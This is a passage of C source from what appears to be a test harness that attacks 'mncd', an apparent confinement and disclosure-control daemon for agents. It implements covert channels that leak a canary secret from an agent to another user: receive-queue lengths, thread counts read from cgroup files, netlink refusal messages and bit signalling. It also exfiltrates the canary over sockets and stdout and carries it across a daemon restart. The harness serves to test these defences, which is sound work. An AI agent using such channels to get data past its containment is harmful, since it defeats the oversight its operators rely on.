    int r = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), w = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t al = sizeof(a);
    if (r < 0 || w < 0 || bind(r, (struct sockaddr *)&a, sizeof(a)) != 0 ||
        getsockname(r, (struct sockaddr *)&a, &al) != 0 || sendto(w, "j", 1, 0, (struct sockaddr *)&a, al) != 1)
        return;
    usleep(20000);
    static struct rq_sock now[4096];
    int n = list_udp(now, 4096);
    unsigned unit = 0;
    for (int i = 0; i < n; i++)
        if (now[i].port == ntohs(a.sin_port))
            unit = now[i].rx;
    if (!unit)
        return;
    for (int j = 0; j < nports && (size_t)j / 2 + 1 < cap; j++)
        for (int i = 0; i < n; i++)
            if (now[i].port == ports[j] && now[i].rx % unit == 0 && now[i].rx / unit <= RQ_N) {
                unsigned nib = RQ_N - now[i].rx / unit;
                msg[j / 2] = (char)(j % 2 ? (msg[j / 2] | (char)nib) : (char)(nib << 4));
            }
}

static int nobody_reads_queues(struct atk_ctx *c, char *out, size_t n)
{
    (void)c;
    char msg[RQ_SOCKS / 2 + 1] = {0};
    read_queues(msg, sizeof(msg));
    snprintf(out, n, "%s", msg);
    return 0;
}

void atkv_udp_recvq_on_sync(struct atk_ctx *c, const char *tag)
{
    if (strcmp(tag, "pre") == 0) {
        nbefore = list_udp(before, 4096);
        nports = 0;
        return;
    }
    if (strcmp(tag, "bound") == 0) {
        send_indexes(c);
        return;
    }
    if (strcmp(tag, "read") != 0)
        return;
    char got[RQ_SOCKS / 2 + 2] = {0};
    if (atk_as_uid(c, ATK_NOBODY, nobody_reads_queues, got, sizeof(got)) >= 0 && strstr(got, c->canary))
        atk_evidence(c, "uid 65534 read the canary from the receive queues of the agent's UDP sockets (/proc/net/udp "
                        "rx_queue: how many datagrams it read)");
}

/* ---- unix sock_diag, every socket of one type (the *_rqlen attacks) */
struct unix_dump {
    int type, cap, n;
    struct atkv_unix_diag *out;
};

static void unix_dump_msg(const struct nlmsghdr *h, void *arg)
{
    struct unix_dump *d = arg;
    const struct unix_diag_msg *m = NLMSG_DATA(h);
    if (m->udiag_type != d->type || d->n >= d->cap)
        return;
    struct atkv_unix_diag u = {.ino = m->udiag_ino};
    int alen = (int)(h->nlmsg_len - NLMSG_LENGTH(sizeof(*m)));
    for (struct rtattr *at = (struct rtattr *)(m + 1); RTA_OK(at, alen); at = RTA_NEXT(at, alen)) {
        if (at->rta_type == UNIX_DIAG_NAME && RTA_PAYLOAD(at) <= sizeof(u.name)) {
            u.namelen = (int)RTA_PAYLOAD(at);
            memcpy(u.name, RTA_DATA(at), (size_t)u.namelen);
        } else if (at->rta_type == UNIX_DIAG_PEER && RTA_PAYLOAD(at) >= 4)
            memcpy(&u.peer, RTA_DATA(at), 4);
        else if (at->rta_type == UNIX_DIAG_RQLEN && RTA_PAYLOAD(at) >= sizeof(struct unix_diag_rqlen))
            u.rq = ((const struct unix_diag_rqlen *)RTA_DATA(at))->udiag_rqueue;
        else if (at->rta_type == UNIX_DIAG_UID && RTA_PAYLOAD(at) >= 4) {
            memcpy(&u.uid, RTA_DATA(at), 4);
            u.has_uid = 1;
        }
    }
    d->out[d->n++] = u;
}

int atkv_unix_dump(int type, struct atkv_unix_diag *out, int cap)
{
    int s = unix_diag_request(~0u, UDIAG_SHOW_NAME | UDIAG_SHOW_PEER | UDIAG_SHOW_RQLEN | UDIAG_SHOW_UID);
    if (s < 0)
        return -1;
    struct unix_dump d = {type, cap, 0, out};
    diag_loop(s, unix_dump_msg, &d);
    return d.n;
}

int atkv_unix_diag_cmp(const void *a, const void *b)
{
    const struct atkv_unix_diag *x = a, *y = b;
    return x->ino < y->ino ? -1 : x->ino > y->ino;
}

long atkv_file_long(const char *path, const char *fmt)
{
    FILE *f = fopen(path, "re");
    char line[256];
    long v = -1;
    while (f && fgets(line, sizeof(line), f))
        if (sscanf(line, fmt, &v) == 1)
            break;
    if (f)
        fclose(f);
    return v;
}

int atkv_agent_proc_path(struct atk_ctx *c, const char *rel, char *out, size_t n)
{
    DIR *d = c->agent_uid > 0 ? opendir("/proc") : NULL;
    struct dirent *e;
    int r = -1;
    while (d && r < 0 && (e = readdir(d))) {
        if (e->d_name[0] < '1' || e->d_name[0] > '9')
            continue;
        char p[300];
        snprintf(p, sizeof(p), "/proc/%s/status", e->d_name);
        if (atkv_file_long(p, "Uid: %ld") == c->agent_uid) {
            snprintf(out, n, "/proc/%s/%s", e->d_name, rel);
            r = 0;
        }
    }
    if (d)
        closedir(d);
    return r;
}

void atkv_byte_set(struct atk_ctx *c, int base, int w, int i, unsigned v)
{
    if (i >= 0 && i < 6)
        ((unsigned char *)&c->slot[base + w])[i] = (unsigned char)v;
}

void atkv_bytes6_evidence(struct atk_ctx *c, int base, int nw, const char *what, const char *const *where)
{
    for (int w = 0; w < nw; w++) {
        char got[16];
        const unsigned char *g = (const unsigned char *)&c->slot[base + w];
        snprintf(got, sizeof(got), "%02x%02x%02x%02x%02x%02x", g[0], g[1], g[2], g[3], g[4], g[5]);
        if (strncmp(got, c->canary + 2, 12) == 0) {
            atk_evidence(c, "uid 65534 read the canary from %s in %s", what, where[w]);
            return;
        }
    }
}

static int thread_park[2] = {-1, -1}; /* every added thread blocks reading it until the agent exits */

static void *thread_parked(void *arg)
{
    (void)arg;
    char b;
    while (read(thread_park[0], &b, 1) < 0 && errno == EINTR)
        ;
    return NULL;
}

int atkv_thread_digits(struct atk_ctx *c, int digits)
{
    if (pipe(thread_park) < 0) {
        atk_try(c, "pipe", -1);
        return 0;
    }
    pthread_attr_t at;
    pthread_attr_init(&at);
    pthread_attr_setstacksize(&at, 64 * 1024);
    atk_sync(c, "base");
    int made = 0, failed = 0;
    for (int i = 0; i < digits; i++) {
        char h[2] = {c->secret[2 + i], 0};
        int d = (int)strtol(h, NULL, 16);
        for (int k = 0; k < d; k++) {
            pthread_t t;
            int e = pthread_create(&t, &at, thread_parked, NULL);
            if (e == 0)
                made++;
            else if (failed++ == 0) {
                errno = e;
                atk_try(c, "pthread_create", -1);
            }
        }
        char tag[16];
        snprintf(tag, sizeof(tag), "d%d", i);
        atk_sync(c, tag);
    }
    atk_note(c, "threads added: %d", made);
    close(thread_park[1]); /* the threads read EOF and end */
    return 0;
}

int atkv_v1_tasks(char *out, size_t n)
{
    FILE *f = fopen("/proc/self/cgroup", "re");
    char line[600], best[600] = "";
    size_t bestlen = 0;
    while (f && fgets(line, sizeof(line), f)) {
        line[strcspn(line, "\n")] = 0;
        char *a = strchr(line, ':'), *b = a ? strchr(a + 1, ':') : NULL;
        if (!a || !b || strncmp(line, "0:", 2) == 0 || a + 1 == b)
            continue;
        *b = 0;
        char ctl[100];
        snprintf(ctl, sizeof(ctl), "%s", a + 1);
        char *comma = strchr(ctl, ',');
        if (comma)
            *comma = 0;
        const char *name = strncmp(ctl, "name=", 5) == 0 ? ctl + 5 : ctl;
        char p[600];
        snprintf(p, sizeof(p), "/sys/fs/cgroup/%s%s/tasks", name, b + 1);
        if (access(p, R_OK) == 0 && strlen(b + 1) >= bestlen) {
            snprintf(best, sizeof(best), "%s", p);
            bestlen = strlen(b + 1);
        }
    }
    if (f)
        fclose(f);
    if (!best[0])
        return -1;
    snprintf(out, n, "%s", best);
    return 0;
}

long atkv_lines_of(const char *p)
{
    FILE *f = fopen(p, "re");
    if (!f)
        return -1;
    long lines = 0;
    int ch;
    while ((ch = fgetc(f)) != EOF)
        lines += ch == '\n';
    fclose(f);
    return lines;
}

static char v1_tasks_path[600];

static int v1_count_threads(struct atk_ctx *c, char *out, size_t n)
{
    (void)c;
    snprintf(out, n, "%ld", v1_tasks_path[0] ? atkv_lines_of(v1_tasks_path) : -1L);
    return 0;
}

void atkv_v1_tasks_sync(struct atk_ctx *c, const char *tag, int digits)
{
    char out[64];
    if (!v1_tasks_path[0] && atkv_v1_tasks(v1_tasks_path, sizeof(v1_tasks_path)) < 0)
        atk_note(c, "no cgroup v1 hierarchy on this host");
    if (atk_as_uid(c, ATK_NOBODY, v1_count_threads, out, sizeof(out)) < 0)
        return;
    char ev[800];
    snprintf(ev, sizeof(ev), "uid 65534 decoded the canary from the line counts of %s (cgroup v1 tasks)",
             v1_tasks_path);
    atkv_counter_digits(c, tag, out, digits, ev);
}

void atkv_nl_newlink_canary(struct atk_ctx *c, int nl)
{
    struct {
        struct nlmsghdr h;
        struct ifinfomsg i;
        char data[64];
    } req;
    memset(&req, 0, sizeof(req));
    req.h.nlmsg_len = sizeof(req);
    req.h.nlmsg_type = RTM_NEWLINK; /* needs CAP_NET_ADMIN: refused, and the refusal quotes it */
    req.h.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK;
    req.h.nlmsg_seq = 1;
    req.i.ifi_family = AF_UNSPEC;
    snprintf(req.data, sizeof(req.data), "%.63s", c->secret);
    struct sockaddr_nl k = {.nl_family = AF_NETLINK}; /* the kernel */
    atk_try(c, "send RTM_NEWLINK carrying the canary to the kernel",
            sendto(nl, &req, sizeof(req), 0, (struct sockaddr *)&k, sizeof(k)));
}

unsigned long long atkv_canary_value(const char *canary)
{
    return strncmp(canary, "mk", 2) == 0 ? strtoull(canary + 2, NULL, 16) : 0;
}

int atkv_object_out_agent(struct atk_ctx *c, const char *tag, const char *what, int (*make)(void),
                          void (*use)(struct atk_ctx *c, int fd))
{
    int fd = (int)atk_try(c, what, make());
    if (atkv_hand_to_keeper(c, tag, fd, 'O', "hand it to the outsider", "the outsider holds it") < 0)
        return 0;
    atk_recv(c);
    use(c, fd);
    return 0;
}

#define ATKV_BITS 48

void atkv_bits_agent(struct atk_ctx *c, int fd, void (*set)(int fd, int bit))
{
    unsigned long long v = atkv_canary_value(c->secret);
    for (int i = 0; i < ATKV_BITS; i++) {
        char tag[8];
        set(fd, (int)((v >> (ATKV_BITS - 1 - i)) & 1));
        snprintf(tag, sizeof(tag), "b%d", i);
        atk_sync(c, tag);
    }
    atk_note(c, "48 bits signalled");
}

void atkv_keeper_bits(int cmd, int ans, int fd, int (*sample)(int fd))
{
    char x;
    while (read(cmd, &x, 1) == 1) {
        char b = sample(fd) ? '1' : '0';
        if (write(ans, &b, 1) != 1)
            _exit(1);
    }
    _exit(0);
}

void atkv_bits_on_sync(struct atk_ctx *c, const char *tag, const char *evidence)
{
    int i = tag[0] == 'b' ? atoi(tag + 1) : -1;
    char b = 0;
    if (i < 0 || i >= ATKV_BITS || c->slot[0] <= 0)
        return;
    if (i == 0)
        c->slot[1] = c->slot[2] = 0;
    if (write(c->fdslot[0], "q", 1) != 1 || read(c->fdslot[1], &b, 1) != 1)
        c->slot[2] = 1; /* the keeper is gone */
    c->slot[1] = (c->slot[1] << 1) | (b == '1');
    if (i == ATKV_BITS - 1) {
        char got[32];
        snprintf(got, sizeof(got), "mk%012llx", (unsigned long long)c->slot[1]);
        if (!c->slot[2] && strcmp(got, c->canary) == 0)
            atk_evidence(c, "%s", evidence);
        else
            atk_note(c, "decoded %s%s", got, c->slot[2] ? " (the outsider stopped answering)" : "");
    }
}

/* ---- data at rest (rest_*) */

int atkv_rest_dir(struct atk_ctx *c, const char *name, char *out, size_t n)
{
    snprintf(out, n, "%s/%s", c->dir, name);
    if (mkdir(out, 0755) < 0 && errno != EEXIST)
        return -1;
    return chmod(out, 0755);
}

int atkv_rest_prepare(struct atk_ctx *c, const char *agent, const char *path)
{
    static char ws2[700], exe[720];
    if (atkv_rest_dir(c, "ws2", ws2, sizeof(ws2)) < 0)
        return -1;
    snprintf(exe, sizeof(exe), "%s/.atk", ws2);
    if (atk_copy_self(exe) < 0)
        return -1;
    c->launch2_ws = ws2;
    c->launch2_agent = agent;
    if (path)
        atk_set(c, "rest_path", "%s", path);
    return 0;
}

/* Phase 2: what it read goes out every way it can try. */
void atkv_rest_out(struct atk_ctx *c, const char *what)
{
    atk_note(c, "read %s: %zu bytes", what, strlen(c->secret));
    int s = (int)atk_try(c, "connect c_unix", atk_unix(SOCK_STREAM, atk_arg(c, "c_unix")));
    if (s >= 0) {
        atk_try(c, "write c_unix", write(s, c->secret, strlen(c->secret)));
        close(s);
    }
    atk_inet(c, "tcp4", AF_INET, SOCK_STREAM, 0, "127.0.0.1", (int)atk_argl(c, "tcp4"), 0);
    printf("%s\n", c->secret);
    fflush(stdout);
}

int atkv_rest_find(const char *buf, size_t n, char *out, size_t outn)
{
    for (size_t i = 0; i + 14 <= n; i++) {
        if (buf[i] != 'm' || buf[i + 1] != 'k')
            continue;
        size_t j = 2;
        while (j < 14 && ((buf[i + j] >= '0' && buf[i + j] <= '9') || (buf[i + j] >= 'a' && buf[i + j] <= 'f')))
            j++;
        if (j == 14) {
            snprintf(out, outn, "%.14s", buf + i);
            return 1;
        }
    }
    return 0;
}

/* Reads up to 1 MiB (a journal, a log) and keeps what looks like the canary ("mk" + 12 hex
 * digits), else the first bytes; then sends it out. */
static int rest_read_fd(struct atk_ctx *c, int fd, const char *what)
{
    static char buf[1 << 20];
    size_t got = 0;
    ssize_t n;
    while (got < sizeof(buf) && (n = read(fd, buf + got, sizeof(buf) - got)) > 0)
        got += (size_t)n;
    if (got == 0) {
        atk_note(c, "read %s: %s", what, atk_errname(errno));
        return -1;
    }
    if (!atkv_rest_find(buf, got, c->secret, sizeof(c->secret)))
        snprintf(c->secret, sizeof(c->secret), "%.*s", (int)(got < 255 ? got : 255), buf);
    atkv_rest_out(c, what);
    return 0;
}

int atkv_rest_agent(struct atk_ctx *c)
{
    const char *ws = atk_arg(c, "ws");
    char p[760];
    if (c->phase != 2) {
        static const char *const files[] = {"notes.txt", "sub/deep.txt"};
        snprintf(p, sizeof(p), "%s/sub", ws);
        atk_try(c, "mkdir ws/sub", mkdir(p, 0700));
        for (int i = 0; i < 2; i++) {
            snprintf(p, sizeof(p), "%s/%s", ws, files[i]);
            int fd = (int)atk_try(c, files[i], open(p, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600));
            if (fd >= 0) {
                atk_try(c, "write", write(fd, c->secret, strlen(c->secret)));
                close(fd);
            }
        }
        atk_sync(c, "written");
        return 0;
    }
    if (atk_arg(c, "rest_sync2"))
        atk_sync(c, "ready");
    if (atk_argl(c, "rest_fd") == 1)
        rest_read_fd(c, ATK_KEEP_FD, "fd passed in");
    if (atk_arg(c, "rest_give")) {
        int fds[2];
        char req[760];
        snprintf(req, sizeof(req), "R%s", atk_arg(c, "rest_give"));
        int nf = atk_take(c, req, fds, 2);
        if (nf < 1)
            atk_note(c, "giver: no fd");
        else if (rest_read_fd(c, fds[0], "fd received") == 0)
            return 0;
    }
    const char *path = atk_arg(c, "rest_path");
    if (!path)
        return 0;
    int fd = (int)atk_try(c, "open rest_path", open(path, O_RDONLY | O_CLOEXEC));
    if (fd >= 0) {
        rest_read_fd(c, fd, "rest_path");
        close(fd);
    }
    return 0;
}

int atkv_rest_wait_label(const char *path)
{
    char v[16];
    for (int i = 0; i < 250; i++) {
        if (lgetxattr(path, "trusted.mnc.label", v, sizeof(v)) >= 0 || errno == ERANGE)
            return 0;
        usleep(20000);
    }
    return -1;
}

/* ---- principals keep their names (restart_*): a private mncd */

static struct {
    pid_t pid;
    int calfd;
    char dir[700], sock[760], state[760], policy[760], cal[760], log[760];
    char pin[200], tree[100];
} dmn = {.pid = -1, .calfd = -1};

/* The policy text with @CAL@ and @OUT@ replaced, written to dmn.policy (atomically). */
static int dmn_policy(struct atk_ctx *c, const char *policy)
{
    static char out[16384];
    size_t o = 0;
    for (const char *p = policy; *p && o + 800 < sizeof(out);) {
        if (strncmp(p, "@CAL@", 5) == 0) {
            o += (size_t)snprintf(out + o, sizeof(out) - o, "%s", dmn.cal);
            p += 5;
        } else if (strncmp(p, "@OUT@", 5) == 0) {
            o += (size_t)snprintf(out + o, sizeof(out) - o, "%s", atk_arg(c, "c_unix") ? atk_arg(c, "c_unix") : "");
            p += 5;
        } else {
            out[o++] = *p++;
        }
    }
    out[o] = 0;
    char tmp[800];
    snprintf(tmp, sizeof(tmp), "%s.tmp", dmn.policy);
    int fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0 || atk_write_all(fd, out, o) < 0 || close(fd) < 0)
        return -1;
    return rename(tmp, dmn.policy);
}

/* How many daemon.start records the private mncd's audit log holds. */
static int dmn_starts(void)
{
    char p[800];
    snprintf(p, sizeof(p), "%s/audit.jsonl", dmn.state);
    int fd = open(p, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    static char buf[1 << 20];
    ssize_t n = read(fd, buf, sizeof(buf) - 1);
    close(fd);
    int k = 0;
    for (char *s = buf; n > 0 && (s = memmem(s, (size_t)(buf + n - s), "\"op\":\"daemon.start\"", 19)); s += 19)
        k++;
    return k;
}

/* Waits (up to 60 s: the guest is slow) until the private mncd has started more than `starts`
 * times and answers. 0 or -1. */
static int dmn_wait(int starts)
{
    for (int i = 0; i < 1200; i++) {
        if (dmn.pid > 0 && waitpid(dmn.pid, NULL, WNOHANG) == dmn.pid) {
            dmn.pid = -1;
            return -1;
        }
        if (dmn_starts() > starts) {
            int fd = atk_unix(SOCK_STREAM, dmn.sock);
            if (fd >= 0) {
                close(fd);
                return 0;
            }
        }
        usleep(50000);
    }
    return -1;
}

static int dmn_spawn(void)
{
    const char *mncd = getenv("ATK_MNCD");
    char def[800];
    if (!mncd || !*mncd) {
        const char *ctl = getenv("MNCCTL");
        const char *sl = ctl ? strrchr(ctl, '/') : NULL;
        snprintf(def, sizeof(def), "%.*s/mncd", sl ? (int)(sl - ctl) : 1, sl ? ctl : ".");
        mncd = def;
    }
    const char *kernel = getenv("ATK_KERNEL") && *getenv("ATK_KERNEL") ? getenv("ATK_KERNEL") : "cgroup";
    pid_t pid = fork();
    if (pid < 0)
        return -1;
    if (pid == 0) {
        int l = open(dmn.log, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);
        int dn = open("/dev/null", O_RDONLY | O_CLOEXEC);
        if (l < 0 || dn < 0 || dup2(dn, 0) < 0 || dup2(l, 1) < 0 || dup2(l, 2) < 0)
            _exit(127);
        execl(mncd, "mncd", "--socket", dmn.sock, "--state-dir", dmn.state, "--policy", dmn.policy, "--kernel", kernel,
              "--pin-root", dmn.pin, "--cgroup-tree", dmn.tree, (char *)NULL);
        _exit(127);
    }
    dmn.pid = pid;
    return 0;
}

/* Replaces (or adds) the kv key=val. */
static void kv_replace(struct atk_ctx *c, const char *key, const char *val)
{
    size_t kl = strlen(key);
    for (int i = 0; i < c->nkv; i++)
        if (strncmp(c->kv[i], key, kl) == 0 && c->kv[i][kl] == '=') {
            size_t n = kl + strlen(val) + 2;
            char *s = malloc(n);
            if (!s)
                return;
            snprintf(s, n, "%s=%s", key, val);
            c->kv[i] = s;
            return;
        }
    atk_set(c, key, "%s", val);
}

int atkv_daemon_start(struct atk_ctx *c, const char *policy)
{
    snprintf(dmn.dir, sizeof(dmn.dir), "%s/mncd", c->dir);
    snprintf(dmn.sock, sizeof(dmn.sock), "%s/mncd.sock", c->dir);
    snprintf(dmn.state, sizeof(dmn.state), "%s/state", dmn.dir);
    snprintf(dmn.policy, sizeof(dmn.policy), "%s/policy.json", dmn.dir);
    snprintf(dmn.cal, sizeof(dmn.cal), "%s/cal.sock", c->dir);
    snprintf(dmn.log, sizeof(dmn.log), "%s/mncd.log", dmn.dir);
    snprintf(dmn.pin, sizeof(dmn.pin), "/sys/fs/bpf/mnc-atkr-%d", (int)getpid());
    snprintf(dmn.tree, sizeof(dmn.tree), "mnc-atkr-%d", (int)getpid());
    if (mkdir(dmn.dir, 0700) < 0) {
        snprintf(c->notes, sizeof(c->notes), "mkdir %s: %s", dmn.dir, strerror(errno));
        return -1;
    }
    /* the in-scope sink: a listener nobody reads (a connect to it is allowed, and harmless) */
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    snprintf(sa.sun_path, sizeof(sa.sun_path), "%.107s", dmn.cal);
    dmn.calfd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (dmn.calfd < 0 || bind(dmn.calfd, (struct sockaddr *)&sa, sizeof(sa)) < 0 || chmod(dmn.cal, 0666) < 0 ||
        listen(dmn.calfd, 64) < 0 || dmn_policy(c, policy) < 0 || dmn_spawn() < 0 || dmn_wait(0) < 0) {
        snprintf(c->notes, sizeof(c->notes), "private mncd did not start (%s; log %s)", strerror(errno), dmn.log);
        return -1;
    }
    setenv("MNC_SOCKET", dmn.sock, 1);
    setenv("MNC_PIN_ROOT", dmn.pin, 1);
    setenv("ATK_TREE", dmn.tree, 1);
    kv_replace(c, "sock", dmn.sock);
    return 0;
}

int atkv_daemon_restart(struct atk_ctx *c, const char *policy, int sighup)
{
    int starts = dmn_starts();
    if (!sighup && dmn.pid > 0) {
        kill(dmn.pid, SIGTERM);
        waitpid(dmn.pid, NULL, 0);
        dmn.pid = -1;
    }
    if (dmn_policy(c, policy) < 0)
        return -1;
    if (sighup)
        kill(dmn.pid, SIGHUP);
    else if (dmn_spawn() < 0)
        return -1;
    if (dmn_wait(starts) < 0) {
        atk_note(c, "[orchestrator: the private mncd did not come back: %s]", dmn.log);
        return -1;
    }
    return 0;
}

void atkv_daemon_stop(struct atk_ctx *c)
{
    (void)c;
    if (dmn.pid > 0) {
        kill(dmn.pid, SIGTERM);
        waitpid(dmn.pid, NULL, 0);
        dmn.pid = -1;
    }
    if (dmn.calfd >= 0)
        close(dmn.calfd);
    dmn.calfd = -1;
    if (dmn.pin[0]) {
        const char *const args[] = {"detach", "--purge", NULL};
        atk_kern(c, args);
    }
    if (dmn.tree[0]) {
        char base[400];
        snprintf(base, sizeof(base), "%s/%s", getenv("ATK_CG2") ? getenv("ATK_CG2") : "", dmn.tree);
        DIR *d = opendir(base);
        for (struct dirent *e; d && (e = readdir(d));) {
            if (e->d_name[0] == '.' || e->d_type != DT_DIR)
                continue;
            char p[700];
            snprintf(p, sizeof(p), "%s/%s/cgroup.kill", base, e->d_name);
            int fd = open(p, O_WRONLY | O_CLOEXEC);
            if (fd >= 0) {
                if (write(fd, "1", 1) < 0) { /* best effort */
                }
                close(fd);
            }
            usleep(100000);
            snprintf(p, sizeof(p), "%s/%s", base, e->d_name);
            rmdir(p);
        }
        if (d)
            closedir(d);
        rmdir(base);
    }
}

int atkv_restart_agent(struct atk_ctx *c)
{
    atk_sync(c, "restart");
    int s = (int)atk_try(c, "connect collector (unix)", atk_unix(SOCK_STREAM, atk_arg(c, "c_unix")));
    if (s >= 0) {
        atk_try(c, "write", write(s, c->secret, strlen(c->secret)));
        close(s);
    }
    atk_inet(c, "tcp4", AF_INET, SOCK_STREAM, 0, "127.0.0.1", (int)atk_argl(c, "tcp4"), 0);
    printf("%s\n", c->secret);
    fflush(stdout);
    if (atk_arg(c, "restart_disclose")) {
        char req[600], resp[4096];
        int fd = atk_mncd(c);
        snprintf(req, sizeof(req),
                 "{\"verb\":\"disclose\",\"contract\":\"relay\",\"state\":{\"fields\":{\"selected_slot\":\"%s\"}}}",
                 c->secret);
        if (fd < 0 || atk_call(fd, req, resp, sizeof(resp)) < 0)
            atk_note(c, "disclose: no answer");
        else
            atk_note(c, "disclose relay: %s", strstr(resp, "\"ok\":true") ? "ok" : "refused");
        if (fd >= 0)
            close(fd);
    }
    return 0;
}

void atkv_daemon_fresh_state(void)
{
    size_t l = strlen(dmn.state);
    snprintf(dmn.state + l, sizeof(dmn.state) - l, ".2");
}

/* a comma-separated list as JSON strings or objects: fmt is "\"%s\"" or "{\"name\": \"%s\"}" */
static size_t json_list(char *out, size_t n, const char *csv, const char *fmt)
{
    size_t o = 0;
    char item[64];
    for (const char *p = csv; *p && o < n;) {
        size_t l = strcspn(p, ",");
        snprintf(item, sizeof(item), "%.*s", (int)(l < sizeof(item) - 1 ? l : sizeof(item) - 1), p);
        o += (size_t)snprintf(out + o, n - o, "%s", o ? ", " : "");
        if (o < n)
            o += (size_t)snprintf(out + o, n - o, fmt, item);
        p += l + (p[l] == ',');
    }
    return o;
}

const char *atkv_restart_policy(const char *agents, const char *sinks, const char *in_scope, const char *relay_issuers)
{
    static char out[8192];
    char ag[1024], sk[2048] = "", is[512];
    json_list(ag, sizeof(ag), agents, "{\"name\": \"%s\"}");
    json_list(is, sizeof(is), relay_issuers, "\"%s\"");
    size_t o = 0;
    for (const char *p = sinks; *p && o < sizeof(sk);) { /* NAME:CLASS:CAL|OUT */
        size_t l = strcspn(p, ",");
        char name[64] = "", cls[32] = "", where[8] = "";
        char one[128];
        snprintf(one, sizeof(one), "%.*s", (int)(l < sizeof(one) - 1 ? l : sizeof(one) - 1), p);
        if (sscanf(one, "%63[^:]:%31[^:]:%7s", name, cls, where) == 3)
            o += (size_t)snprintf(sk + o, sizeof(sk) - o,
                                  "%s{\"name\": \"%s\", \"class\": \"%s\", \"address\": \"unix:@%s@\"}", o ? ", " : "",
                                  name, cls, where);
        p += l + (p[l] == ',');
    }
    snprintf(
        out, sizeof(out),
        "{\"mnc_policy\": 1, \"name\": \"restart\", \"agents\": [%s], \"sinks\": [%s],\n"
        " \"fields\": [{\"name\": \"selected_slot\", \"weight\": 0.1}, {\"name\": \"slot_feasible\", \"weight\": "
        "0.05}],\n"
        " \"families\": [{\"name\": \"forms\", \"forms\": [{\"name\": \"receipt\", \"fields\": [\"selected_slot\"], "
        "\"template\": \"selected slot {selected_slot}\"}]}],\n"
        " \"contracts\": [{\"id\": \"cal_scope\", \"purpose\": \"cal_scope\", \"issuers\": [\"worker\"], "
        "\"recipient\": \"coordinator\", \"fields\": [\"selected_slot\"], \"lifetime\": {\"seconds\": 300}, "
        "\"sinks\": [\"%s\"], \"memory\": false, \"family\": \"forms\", \"failure\": [\"abstain\"]},\n"
        "  {\"id\": \"relay\", \"purpose\": \"relay\", \"issuers\": [%s], \"recipient\": \"bystander\", "
        "\"fields\": [\"selected_slot\"], \"lifetime\": {\"seconds\": 300}, \"sinks\": [], \"memory\": false, "
        "\"family\": \"forms\", \"failure\": [\"abstain\"]}],\n"
        " \"risk\": {\"model\": \"weights\"}}",
        ag, sk, in_scope, is);
    return out;
}

/* ---- records and identifiers (atk_variants.h) */

int atkv_req(struct atk_ctx *c, const char *req, char *resp, size_t n)
{
    int fd = atk_mncd(c);
    if (fd < 0)
        return -1;
    int rc = atk_call(fd, req, resp, n);
    close(fd);
    return rc;
}

/* the value of "key":"..." after p (no escapes expected in our values) */
static int jstr(const char *p, const char *key, char *out, size_t n)
{
    char pat[96];
    snprintf(pat, sizeof(pat), "\"%s\":\"", key);
    const char *v = strstr(p, pat);
    const char *e = v ? strchr(v + strlen(pat), '"') : NULL;
    if (!e || (size_t)(e - v - strlen(pat)) >= n)
        return -1;
    memcpy(out, v + strlen(pat), (size_t)(e - v - strlen(pat)));
    out[e - v - strlen(pat)] = 0;
    return 0;
}

int atkv_recv_contract(struct atk_ctx *c, const char *contract, char *oid, size_t n)
{
    static char resp[1 << 20];
    char line[16];
    oid[0] = 0;
    atk_say(c, "hold recv"); /* as atk_recv: the orchestrator lets go of the control file */
    if (!fgets(line, sizeof(line), stdin))
        exit(4);
    if (atkv_req(c, "{\"verb\":\"recv\",\"max\":100}", resp, sizeof(resp)) < 0) {
        atk_say(c, "recv fail: no answer");
        exit(3);
    }
    /* the canary: this run's disclosure (obj=) */
    char pat[96];
    snprintf(pat, sizeof(pat), "\"id\":\"%.40s\"", atk_arg(c, "obj") ? atk_arg(c, "obj") : "?");
    const char *mine = strstr(resp, pat);
    const char *v = mine ? strstr(mine, "\"values\":") : NULL;
    if (!v || jstr(v, "selected_slot", c->secret, sizeof(c->secret)) < 0) {
        atk_say(c, "recv fail: %.200s", resp);
        exit(3);
    }
    snprintf(c->object, sizeof(c->object), "%.32s", atk_arg(c, "obj"));
    atk_say(c, "recv ok");
    /* the first object of `contract`: {"id":"...","contract":"..." */
    snprintf(pat, sizeof(pat), "\"contract\":\"%s\"", contract);
    const char *p = strstr(resp, pat);
    const char *id = p;
    while (id && id > resp && strncmp(id, "\"id\":\"", 6) != 0)
        id--;
    if (!p || strncmp(id, "\"id\":\"", 6) != 0 || n < 33)
        return -1;
    snprintf(oid, n, "%.32s", id + 6);
    return 0;
}

static const char *envs(const char *k)
{
    const char *v = getenv(k);
    return v ? v : "";
}

int atkv_admin(struct atk_ctx *c, const char *file, const char *const *args, char *path, size_t n)
{
    snprintf(path, n, "%s/%s", c->dir, file);
    const char *argv[24];
    int k = 0;
    argv[k++] = envs("MNCCTL");
    argv[k++] = "--json";
    for (int i = 0; args[i] && k < 23; i++)
        argv[k++] = args[i];
    argv[k] = NULL;
    pid_t pid = fork();
    if (pid < 0)
        return -1;
    if (pid == 0) {
        int o = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
        if (o < 0 || dup2(o, 1) < 0 || dup2(o, 2) < 0)
            _exit(127);
        execv(argv[0], (char **)argv);
        _exit(127);
    }
    int st;
    return waitpid(pid, &st, 0) == pid && WIFEXITED(st) ? 0 : -1;
}

char *atkv_slurp(const char *path, size_t *len)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return NULL;
    size_t cap = 65536, n = 0;
    char *b = malloc(cap + 1);
    ssize_t r;
    while (b && (r = read(fd, b + n, cap - n)) > 0) {
        n += (size_t)r;
        if (n == cap) {
            char *nb = realloc(b, cap * 2 + 1);
            if (!nb) {
                free(b);
                b = NULL;
                break;
            }
            b = nb;
            cap *= 2;
        }
    }
    close(fd);
    if (b) {
        b[n] = 0;
        if (len)
            *len = n;
    }
    return b;
}

/* copy /proc/self/exe to path, 0755 */
static int copy_exe(const char *path)
{
